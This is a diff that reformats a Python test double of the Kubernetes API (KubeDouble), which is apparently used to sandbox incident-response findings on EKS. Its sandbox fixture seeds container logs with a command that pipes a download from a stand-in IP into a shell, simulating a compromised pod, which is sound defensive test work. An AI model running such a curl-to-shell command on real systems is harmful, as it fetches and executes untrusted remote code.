@@ -36,8 +36,12 @@ _NS = r"/api/v1/namespaces/(?P<ns>[^/]+)"
 _NET = r"/apis/networking.k8s.io/v1/namespaces/(?P<ns>[^/]+)/networkpolicies"
 _RBAC = r"/apis/rbac.authorization.k8s.io/v1"
 IRSA_ANNOTATION = "eks.amazonaws.com/role-arn"
-PATCH_TYPES = ("application/json-patch+json", "application/merge-patch+json",
-               "application/strategic-merge-patch+json", "application/apply-patch+yaml")
+PATCH_TYPES = (
+    "application/json-patch+json",
+    "application/merge-patch+json",
+    "application/strategic-merge-patch+json",
+    "application/apply-patch+yaml",
+)
 
 
 def _now() -> str:
@@ -46,8 +50,16 @@ def _now() -> str:
 
 def status(code: int, reason: str, message: str, **details: Any) -> dict[str, Any]:
     """A ``Status`` object, the shape the API server answers errors with."""
-    return {"kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Failure", "message": message,
-            "reason": reason, "details": details or None, "code": code}
+    return {
+        "kind": "Status",
+        "apiVersion": "v1",
+        "metadata": {},
+        "status": "Failure",
+        "message": message,
+        "reason": reason,
+        "details": details or None,
+        "code": code,
+    }
 
 
 def merge_patch(target: dict[str, Any], patch: dict[str, Any]) -> dict[str, Any]:
@@ -103,10 +115,12 @@ class KubeDouble:
         self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
         self._server.daemon_threads = True
         if self.tls is not None:  # the handshake happens in the request's own thread, on first read
-            self._server.socket = self.tls.wrap_socket(self._server.socket, server_side=True,
-                                                       do_handshake_on_connect=False)
-        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.05},
-                                        daemon=True, name="kube-double")
+            self._server.socket = self.tls.wrap_socket(
+                self._server.socket, server_side=True, do_handshake_on_connect=False
+            )
+        self._thread = threading.Thread(
+            target=self._server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True, name="kube-double"
+        )
         self._thread.start()
         scheme = "https" if self.tls is not None else "http"
         self.url = f"{scheme}://127.0.0.1:{self._server.server_address[1]}"
@@ -119,56 +133,133 @@ class KubeDouble:
             self._server = None
 
     # ------------------------------------------------------------------ seeding
-    def add_pod(self, namespace: str, name: str, *, containers: list[dict[str, Any]] | None = None,
-                labels: dict[str, str] | None = None, node_name: str = "ip-10-0-1-23.ec2.internal",
-                service_account: str = "default", uid: str | None = None,
-                owner: dict[str, Any] | None = None, logs: dict[str, str] | None = None,
-                previous_logs: dict[str, str] | None = None) -> dict[str, Any]:
+    def add_pod(
+        self,
+        namespace: str,
+        name: str,
+        *,
+        containers: list[dict[str, Any]] | None = None,
+        labels: dict[str, str] | None = None,
+        node_name: str = "ip-10-0-1-23.ec2.internal",
+        service_account: str = "default",
+        uid: str | None = None,
+        owner: dict[str, Any] | None = None,
+        logs: dict[str, str] | None = None,
+        previous_logs: dict[str, str] | None = None,
+    ) -> dict[str, Any]:
         """Seed a running pod (and its node, service account and a Scheduled event)."""
         containers = containers or [{"name": "app", "image": "public.ecr.aws/nginx/nginx:1.25"}]
         uid = uid or str(uuid.uuid4())
-        metadata: dict[str, Any] = {"name": name, "namespace": namespace, "uid": uid,
-                                    "resourceVersion": self._bump(), "creationTimestamp": _now(),
-                                    "labels": dict(labels or {})}
+        metadata: dict[str, Any] = {
+            "name": name,
+            "namespace": namespace,
+            "uid": uid,
+            "resourceVersion": self._bump(),
+            "creationTimestamp": _now(),
+            "labels": dict(labels or {}),
+        }
         if owner:
-            metadata["ownerReferences"] = [{"apiVersion": "apps/v1", "controller": True, "blockOwnerDeletion": True,
-                                            "uid": str(uuid.uuid4()), **owner}]
-        pod = {"apiVersion": "v1", "kind": "Pod", "metadata": metadata,
-               "spec": {"containers": containers, "nodeName": node_name, "serviceAccountName": service_account,
-                        "serviceAccount": service_account, "restartPolicy": "Always"},
-               "status": {"phase": "Running", "podIP": "10.0.1.57", "hostIP": "10.0.1.23", "startTime": _now(),
-                          "containerStatuses": [{"name": c["name"], "image": c["image"], "imageID": "",
-                                                 "ready": True, "restartCount": 1 if (previous_logs or {}).get(
-                                                     c["name"]) else 0, "started": True,
-                                                 "state": {"running": {"startedAt": _now()}}}
-                                                for c in containers]}}
+            metadata["ownerReferences"] = [
+                {
+                    "apiVersion": "apps/v1",
+                    "controller": True,
+                    "blockOwnerDeletion": True,
+                    "uid": str(uuid.uuid4()),
+                    **owner,
+                }
+            ]
+        pod = {
+            "apiVersion": "v1",
+            "kind": "Pod",
+            "metadata": metadata,
+            "spec": {
+                "containers": containers,
+                "nodeName": node_name,
+                "serviceAccountName": service_account,
+                "serviceAccount": service_account,
+                "restartPolicy": "Always",
+            },
+            "status": {
+                "phase": "Running",
+                "podIP": "10.0.1.57",
+                "hostIP": "10.0.1.23",
+                "startTime": _now(),
+                "containerStatuses": [
+                    {
+                        "name": c["name"],
+                        "image": c["image"],
+                        "imageID": "",
+                        "ready": True,
+                        "restartCount": 1 if (previous_logs or {}).get(c["name"]) else 0,
+                        "started": True,
+                        "state": {"running": {"startedAt": _now()}},
+                    }
+                    for c in containers
+                ],
+            },
+        }
         with self.lock:
             self.state.pods[(namespace, name)] = pod
             for container, text in (logs or {}).items():
                 self.state.logs[(namespace, name, container, False)] = text
             for container, text in (previous_logs or {}).items():
                 self.state.logs[(namespace, name, container, True)] = text
-            self.state.events.setdefault(namespace, []).append({
-                "apiVersion": "v1", "kind": "Event",
-                "metadata": {"name": f"{name}.{uuid.uuid4().hex[:16]}", "namespace": namespace},
-                "involvedObject": {"kind": "Pod", "namespace": namespace, "name": name, "uid": uid},
-                "reason": "Scheduled", "message": f"Successfully assigned {namespace}/{name} to {node_name}",
-                "type": "Normal", "count": 1, "firstTimestamp": _now(), "lastTimestamp": _now(),
-                "source": {"component": "default-scheduler"}})
-            self.state.nodes.setdefault(node_name, {
-                "apiVersion": "v1", "kind": "Node",
-                "metadata": {"name": node_name, "uid": str(uuid.uuid4()), "resourceVersion": self._bump(),
-                             "labels": {"kubernetes.io/hostname": node_name}},
-                "spec": {"providerID": "aws:///us-east-1a/i-0abcd1234ef567890"},
-                "status": {"nodeInfo": {"kubeletVersion": "v1.30.0-eks", "osImage": "Amazon Linux 2023",
-                                        "containerRuntimeVersion": "containerd://1.7.11",
-                                        "architecture": "amd64", "bootID": "", "kernelVersion": "6.1",
-                                        "kubeProxyVersion": "v1.30.0", "machineID": "", "operatingSystem": "linux",
-                                        "systemUUID": ""}}})
-            self.state.service_accounts.setdefault((namespace, service_account), {
-                "apiVersion": "v1", "kind": "ServiceAccount",
-                "metadata": {"name": service_account, "namespace": namespace, "uid": str(uuid.uuid4()),
-                             "annotations": {}}})
+            self.state.events.setdefault(namespace, []).append(
+                {
+                    "apiVersion": "v1",
+                    "kind": "Event",
+                    "metadata": {"name": f"{name}.{uuid.uuid4().hex[:16]}", "namespace": namespace},
+                    "involvedObject": {"kind": "Pod", "namespace": namespace, "name": name, "uid": uid},
+                    "reason": "Scheduled",
+                    "message": f"Successfully assigned {namespace}/{name} to {node_name}",
+                    "type": "Normal",
+                    "count": 1,
+                    "firstTimestamp": _now(),
+                    "lastTimestamp": _now(),
+                    "source": {"component": "default-scheduler"},
+                }
+            )
+            self.state.nodes.setdefault(
+                node_name,
+                {
+                    "apiVersion": "v1",
+                    "kind": "Node",
+                    "metadata": {
+                        "name": node_name,
+                        "uid": str(uuid.uuid4()),
+                        "resourceVersion": self._bump(),
+                        "labels": {"kubernetes.io/hostname": node_name},
+                    },
+                    "spec": {"providerID": "aws:///us-east-1a/i-0abcd1234ef567890"},
+                    "status": {
+                        "nodeInfo": {
+                            "kubeletVersion": "v1.30.0-eks",
+                            "osImage": "Amazon Linux 2023",
+                            "containerRuntimeVersion": "containerd://1.7.11",
+                            "architecture": "amd64",
+                            "bootID": "",
+                            "kernelVersion": "6.1",
+                            "kubeProxyVersion": "v1.30.0",
+                            "machineID": "",
+                            "operatingSystem": "linux",
+                            "systemUUID": "",
+                        }
+                    },
+                },
+            )
+            self.state.service_accounts.setdefault(
+                (namespace, service_account),
+                {
+                    "apiVersion": "v1",
+                    "kind": "ServiceAccount",
+                    "metadata": {
+                        "name": service_account,
+                        "namespace": namespace,
+                        "uid": str(uuid.uuid4()),
+                        "annotations": {},
+                    },
+                },
+            )
         return pod
 
     def annotate_service_account(self, namespace: str, name: str, annotations: dict[str, str]) -> None:
@@ -176,14 +267,20 @@ class KubeDouble:
             sa = self.state.service_accounts[(namespace, name)]
             sa["metadata"].setdefault("annotations", {}).update(annotations)
 
-    def add_role_binding(self, namespace: str, name: str, role: str, sa_namespace: str, sa_name: str,
-                         *, cluster: bool = False) -> None:
-        binding = {"apiVersion": "rbac.authorization.k8s.io/v1",
-                   "kind": "ClusterRoleBinding" if cluster else "RoleBinding",
-                   "metadata": {"name": name, **({} if cluster else {"namespace": namespace})},
-                   "roleRef": {"apiGroup": "rbac.authorization.k8s.io",
-                               "kind": "ClusterRole" if cluster else "Role", "name": role},
-                   "subjects": [{"kind": "ServiceAccount", "name": sa_name, "namespace": sa_namespace}]}
+    def add_role_binding(
+        self, namespace: str, name: str, role: str, sa_namespace: str, sa_name: str, *, cluster: bool = False
+    ) -> None:
+        binding = {
+            "apiVersion": "rbac.authorization.k8s.io/v1",
+            "kind": "ClusterRoleBinding" if cluster else "RoleBinding",
+            "metadata": {"name": name, **({} if cluster else {"namespace": namespace})},
+            "roleRef": {
+                "apiGroup": "rbac.authorization.k8s.io",
+                "kind": "ClusterRole" if cluster else "Role",
+                "name": role,
+            },
+            "subjects": [{"kind": "ServiceAccount", "name": sa_name, "namespace": sa_namespace}],
+        }
         with self.lock:
             if cluster:
                 self.state.cluster_role_bindings.append(binding)
@@ -197,12 +294,14 @@ class KubeDouble:
     def fail(self, method: str, path_pattern: str, code: int, *, times: int = 1) -> None:
         """The next ``times`` requests matching answer with ``code`` (429, 403, 500 ...)."""
         with self.lock:
-            self.state.failures.append({"method": method, "pattern": re.compile(path_pattern), "code": code,
-                                        "times": times})
+            self.state.failures.append(
+                {"method": method, "pattern": re.compile(path_pattern), "code": code, "times": times}
+            )
 
     def requests_of(self, method: str | None = None, path_contains: str = "") -> list[dict[str, Any]]:
-        return [r for r in self.state.requests if (method is None or r["method"] == method)
-                and path_contains in r["path"]]
+        return [
+            r for r in self.state.requests if (method is None or r["method"] == method) and path_contains in r["path"]
+        ]
 
     # ------------------------------------------------------------------ helpers
     def _bump(self) -> str:
@@ -265,11 +364,17 @@ class _Handler(BaseHTTPRequestHandler):
         except json.JSONDecodeError:
             body = None
         with double.lock:
-            double.state.requests.append({"method": method, "path": parts.path, "query": query,
-                                          "body": copy.deepcopy(body),
-                                          "content_type": self.headers.get("Content-Type"),
-                                          "authorization": self.headers.get("Authorization"),
-                                          "client_cn": _client_cn(self.connection)})
+            double.state.requests.append(
+                {
+                    "method": method,
+                    "path": parts.path,
+                    "query": query,
+                    "body": copy.deepcopy(body),
+                    "content_type": self.headers.get("Content-Type"),
+                    "authorization": self.headers.get("Authorization"),
+                    "client_cn": _client_cn(self.connection),
+                }
+            )
             if double.state.token and self.headers.get("Authorization") != f"Bearer {double.state.token}":
                 self._send(401, status(401, "Unauthorized", "Unauthorized"))
                 return
@@ -278,13 +383,23 @@ class _Handler(BaseHTTPRequestHandler):
                     failure["times"] -= 1
                     code = failure["code"]
                     reason = {429: "TooManyRequests", 403: "Forbidden", 500: "InternalError"}.get(code, "Failure")
-                    message = (f'{parts.path} is forbidden: User "responder" cannot {method.lower()} this resource'
-                               if code == 403 else f"injected {code}")
+                    message = (
+                        f'{parts.path} is forbidden: User "responder" cannot {method.lower()} this resource'
+                        if code == 403
+                        else f"injected {code}"
+                    )
                     self._send(code, status(code, reason, message))
                     return
             if method == "PATCH" and (self.headers.get("Content-Type") or "").split(";")[0] not in PATCH_TYPES:
-                self._send(415, status(415, "UnsupportedMediaType", "the body of the request was in an unknown "
-                                       f"format - accepted media types include: {', '.join(PATCH_TYPES)}"))
+                self._send(
+                    415,
+                    status(
+                        415,
+                        "UnsupportedMediaType",
+                        "the body of the request was in an unknown "
+                        f"format - accepted media types include: {', '.join(PATCH_TYPES)}",
+                    ),
+                )
                 return
             code, answer, ctype = _route(double, method, parts.path, query, body)
         self._send(code, answer, ctype)
@@ -301,8 +416,7 @@ def _client_cn(connection: object) -> str | None:
     return None
 
 
-def _route(double: KubeDouble, method: str, path: str, query: dict[str, str],
-           body: Any) -> tuple[int, Any, str]:
+def _route(double: KubeDouble, method: str, path: str, query: dict[str, str], body: Any) -> tuple[int, Any, str]:
     state = double.state
     js = "application/json"
     m = re.fullmatch(_NS + r"/pods/(?P<name>[^/]+)/log", path)
@@ -314,13 +428,19 @@ def _route(double: KubeDouble, method: str, path: str, query: dict[str, str],
         names = [c["name"] for c in pod["spec"]["containers"] + pod["spec"].get("initContainers", [])]
         container = query.get("container") or (names[0] if len(names) == 1 else "")
         if container not in names:
-            return 400, status(400, "BadRequest", f"a container name must be specified for pod {name}, "
-                               f"choose one of: {names}"), js
+            return (
+                400,
+                status(400, "BadRequest", f"a container name must be specified for pod {name}, choose one of: {names}"),
+                js,
+            )
         previous = query.get("previous") == "true"
         text = state.logs.get((ns, name, container, previous))
         if text is None and previous:
-            return 400, status(400, "BadRequest", f'previous terminated container "{container}" in pod '
-                               f'"{name}" not found'), js
+            return (
+                400,
+                status(400, "BadRequest", f'previous terminated container "{container}" in pod "{name}" not found'),
+                js,
+            )
         return 200, text or "", "text/plain"
     m = re.fullmatch(_NS + r"/pods/(?P<name>[^/]+)", path)
     if m:
@@ -366,40 +486,90 @@ def _route(double: KubeDouble, method: str, path: str, query: dict[str, str],
         return 200, sa, js
     m = re.fullmatch(_RBAC + r"/namespaces/(?P<ns>[^/]+)/rolebindings", path)
     if m and method == "GET":
-        return 200, {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBindingList", "metadata": {},
-                     "items": state.role_bindings.get(m["ns"], [])}, js
+        return (
+            200,
+            {
+                "apiVersion": "rbac.authorization.k8s.io/v1",
+                "kind": "RoleBindingList",
+                "metadata": {},
+                "items": state.role_bindings.get(m["ns"], []),
+            },
+            js,
+        )
     if path == _RBAC + "/clusterrolebindings" and method == "GET":
-        return 200, {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBindingList",
-                     "metadata": {}, "items": state.cluster_role_bindings}, js
+        return (
+            200,
+            {
+                "apiVersion": "rbac.authorization.k8s.io/v1",
+                "kind": "ClusterRoleBindingList",
+                "metadata": {},
+                "items": state.cluster_role_bindings,
+            },
+            js,
+        )
     m = re.fullmatch(_NET, path)
     if m:
         ns = m["ns"]
         if method == "GET":
             items = [p for (pns, _), p in sorted(state.network_policies.items()) if pns == ns]
-            return 200, {"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicyList", "metadata": {},
-                         "items": items}, js
+            return (
+                200,
+                {"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicyList", "metadata": {}, "items": items},
+                js,
+            )
         if method == "POST" and isinstance(body, dict):
             name = (body.get("metadata") or {}).get("name")
             if not name:
                 return 422, status(422, "Invalid", "metadata.name: Required value"), js
             if (ns, name) in state.network_policies:
-                return 409, status(409, "AlreadyExists", f'networkpolicies.networking.k8s.io "{name}" already '
-                                   "exists", name=name, kind="networkpolicies"), js
+                return (
+                    409,
+                    status(
+                        409,
+                        "AlreadyExists",
+                        f'networkpolicies.networking.k8s.io "{name}" already exists',
+                        name=name,
+                        kind="networkpolicies",
+                    ),
+                    js,
+                )
             return 201, double._store_policy(ns, body), js
     m = re.fullmatch(_NET + r"/(?P<name>[^/]+)", path)
     if m:
         key = (m["ns"], m["name"])
         policy = state.network_policies.get(key)
         if policy is None:
-            return 404, status(404, "NotFound", f'networkpolicies.networking.k8s.io "{m["name"]}" not found',
-                               name=m["name"], kind="networkpolicies"), js
+            return (
+                404,
+                status(
+                    404,
+                    "NotFound",
+                    f'networkpolicies.networking.k8s.io "{m["name"]}" not found',
+                    name=m["name"],
+                    kind="networkpolicies",
+                ),
+                js,
+            )
         if method == "GET":
             return 200, policy, js
         if method == "DELETE":
             del state.network_policies[key]
-            return 200, {"kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Success",
-                         "details": {"name": m["name"], "group": "networking.k8s.io", "kind": "networkpolicies",
-                                     "uid": policy["metadata"]["uid"]}}, js
+            return (
+                200,
+                {
+                    "kind": "Status",
+                    "apiVersion": "v1",
+                    "metadata": {},
+                    "status": "Success",
+                    "details": {
+                        "name": m["name"],
+                        "group": "networking.k8s.io",
+                        "kind": "networkpolicies",
+                        "uid": policy["metadata"]["uid"],
+                    },
+                },
+                js,
+            )
     return 404, status(404, "NotFound", f"the server could not find the requested resource ({method} {path})"), js
 
 
@@ -449,19 +619,24 @@ def k8s_sandbox(box: Any, finding: Any) -> Iterator[KubeDouble | None]:
     role = _seed_irsa_role(box, f"{account}-irsa"[:64])
     double = KubeDouble()
     double.start()
-    double.add_pod(namespace, name, uid=pod.pod_uid if pod.pod_uid and _UID.match(pod.pod_uid) else None,
-                   node_name=node, service_account=account, labels={"app": name.rsplit("-", 2)[0][:63] or "app"},
-                   owner={"kind": "ReplicaSet", "name": name.rsplit("-", 1)[0][:253] or name},
-                   containers=[{"name": n, "image": str(i)[:500]} for n, i in zip(names, images, strict=False)],
-                   logs={n: "started\nsh -c 'curl -s http://198.51.100.7/x | sh'\n" for n in names},
-                   previous_logs={names[0]: "OOMKilled\n"})
+    double.add_pod(
+        namespace,
+        name,
+        uid=pod.pod_uid if pod.pod_uid and _UID.match(pod.pod_uid) else None,
+        node_name=node,
+        service_account=account,
+        labels={"app": name.rsplit("-", 2)[0][:63] or "app"},
+        owner={"kind": "ReplicaSet", "name": name.rsplit("-", 1)[0][:253] or name},
+        containers=[{"name": n, "image": str(i)[:500]} for n, i in zip(names, images, strict=False)],
+        logs={n: "started\nsh -c 'curl -s http://198.51.100.7/x | sh'\n" for n in names},
+        previous_logs={names[0]: "OOMKilled\n"},
+    )
     double.annotate_service_account(namespace, account, {IRSA_ANNOTATION: role})
     double.add_role_binding(namespace, f"{account}-edit", "edit", namespace, account)
     saved = os.environ.get(SANDBOX_ENV)
     os.environ[SANDBOX_ENV] = json.dumps({cluster: {"host": double.url}})
     _RUNNING[box.endpoint] = (double, namespace, name)
-    box.seeded["kubernetes"] = {"cluster": cluster, "host": double.url, "pod": f"{namespace}/{name}",
-                                "irsa_role": role}
+    box.seeded["kubernetes"] = {"cluster": cluster, "host": double.url, "pod": f"{namespace}/{name}", "irsa_role": role}
     try:
         yield double
     finally:
@@ -475,10 +650,19 @@ def k8s_sandbox(box: Any, finding: Any) -> Iterator[KubeDouble | None]:
 
 def _seed_irsa_role(box: Any, role_name: str) -> str:
     iam = box.client("iam")
-    trust = {"Version": "2012-10-17", "Statement": [{
-        "Effect": "Allow", "Action": "sts:AssumeRoleWithWebIdentity",
-        "Principal": {"Federated": f"arn:aws:iam::{box.account_id}:oidc-provider/oidc.eks.{box.region}"
-                                   ".amazonaws.com/id/SANDBOX"}}]}
+    trust = {
+        "Version": "2012-10-17",
+        "Statement": [
+            {
+                "Effect": "Allow",
+                "Action": "sts:AssumeRoleWithWebIdentity",
+                "Principal": {
+                    "Federated": f"arn:aws:iam::{box.account_id}:oidc-provider/oidc.eks.{box.region}"
+                    ".amazonaws.com/id/SANDBOX"
+                },
+            }
+        ],
+    }
     try:
         return str(iam.create_role(RoleName=role_name, AssumeRolePolicyDocument=json.dumps(trust))["Role"]["Arn"])
     except iam.exceptions.EntityAlreadyExistsException:
@@ -495,8 +679,12 @@ def describe_k8s(box: Any, finding: Any) -> list[dict[str, Any]]:
         pod = double.state.pods.get((namespace, name)) or {}
         node = double.state.nodes.get((pod.get("spec") or {}).get("nodeName", ""), {})
         policies = sorted(n for (ns, n) in double.state.network_policies if ns == namespace)
-        return [{"principal": f"pod {namespace}/{name}",
-                 "labels": dict((pod.get("metadata") or {}).get("labels") or {}),
-                 "network_policies": policies,
-                 "node_cordoned": bool((node.get("spec") or {}).get("unschedulable")),
-                 "pod_exists": bool(pod)}]
+        return [
+            {
+                "principal": f"pod {namespace}/{name}",
+                "labels": dict((pod.get("metadata") or {}).get("labels") or {}),
+                "network_policies": policies,
+                "node_cordoned": bool((node.get("spec") or {}).get("unschedulable")),
+                "pod_exists": bool(pod),
+            }
+        ]
